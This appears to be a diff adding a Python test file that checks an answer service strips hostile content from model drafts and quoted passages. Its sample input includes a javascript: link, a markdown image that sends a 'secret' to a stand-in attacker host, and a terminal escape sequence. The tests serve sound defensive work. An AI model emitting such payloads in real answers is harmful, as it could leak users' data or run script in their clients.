@@ -1,0 +1,91 @@
+"""What is spoken of a draft is what may be shown, and is just its content, whoever wrote it."""
+
+from __future__ import annotations
+
+import itertools
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from services.answer.extractive import Extractive
+from services.answer.handler import Answerer
+from services.answer.ports import Draft, Speech
+from services.answer.settings import AnswerSettings
+from shared.clean import clean
+from shared.domain import Answer, Passage, PipelineRef, Question
+from shared.envelope import Envelope, opening
+from shared.facts import AnswerDrafted, PassagesRetrieved
+from shared.models.none import NoModels
+from shared.signals import Signal, Token
+
+HOSTILE = (
+    "A passport costs <b>120</b> dollars. [See](javascript:alert(1)) ![x](https://evil.example/p.png?q=secret)\x1b[2J"
+)
+
+
+class Writes:
+    """An engine that writes the pieces it was given."""
+
+    def __init__(self, *pieces: str) -> None:
+        self._pieces = pieces
+
+    async def draft(
+        self, retrieved: PassagesRetrieved, settings: AnswerSettings, speak: Speech, envelope: Envelope
+    ) -> Draft:
+        for piece in self._pieces:
+            await speak(piece)
+        return Draft(Answer(content="".join(self._pieces)))
+
+
+class Heard:
+    """A speaker that keeps what it was given to say."""
+
+    def __init__(self) -> None:
+        self.tokens: list[Token] = []
+
+    async def speak(self, correlation_id: str, signal: Signal) -> None:
+        assert isinstance(signal, Token)
+        self.tokens.append(signal)
+
+    @property
+    def text(self) -> str:
+        """The tokens of the newest beginning, put together."""
+        newest = max((token.draft for token in self.tokens), default=0)
+        return "".join(token.text for token in self.tokens if token.draft == newest)
+
+
+async def _answer(engine: Writes | Extractive, *passages: Passage) -> tuple[AnswerDrafted, Heard]:
+    heard = Heard()
+    asked = Question(text="What does a passport cost?", language="eng", pivot_language="eng")
+    retrieved = PassagesRetrieved(question=asked, passages=passages)
+    envelope = opening("retrieval", retrieved, pipeline=PipelineRef(name="d", revision=1), deadline_seconds=60)
+    engines = {"chat": engine, "extractive": engine}
+    name = "extractive" if isinstance(engine, Extractive) else "chat"
+    drafted = await Answerer(engines, heard, NoModels()).answer(retrieved, envelope, AnswerSettings(engine=name))
+    assert isinstance(drafted, AnswerDrafted)
+    return drafted, heard
+
+
+@settings(deadline=None)
+@given(st.lists(st.integers(0, len(HOSTILE)), max_size=30))
+async def test_tokens_are_the_clean_content_however_the_model_writes(cuts: list[int]) -> None:
+    bounds = sorted({0, len(HOSTILE), *cuts})
+    pieces = [HOSTILE[begin:end] for begin, end in itertools.pairwise(bounds)]
+
+    drafted, heard = await _answer(Writes(*pieces))
+
+    assert drafted.answer.content == clean(HOSTILE)
+    assert drafted.answer.content == "A passport costs < b>120< /b> dollars. [See] ! [x][2J"
+    assert heard.text == drafted.answer.content
+    assert len({token.draft for token in heard.tokens}) == 1  # nothing had to be said anew
+
+
+async def test_quotes_of_a_hostile_document_are_clean_and_agree_with_their_sentences() -> None:
+    passage = Passage(id="p", source="kb:p", text=HOSTILE, language="eng", score=1)
+
+    drafted, heard = await _answer(Extractive(), passage)
+
+    assert "< b>120< /b> dollars." in drafted.answer.content
+    assert clean(drafted.answer.content) == drafted.answer.content == heard.text
+    assert all(sentence.text in drafted.answer.content for sentence in drafted.answer.sentences)
+    assert drafted.citations[0].quote in passage.text
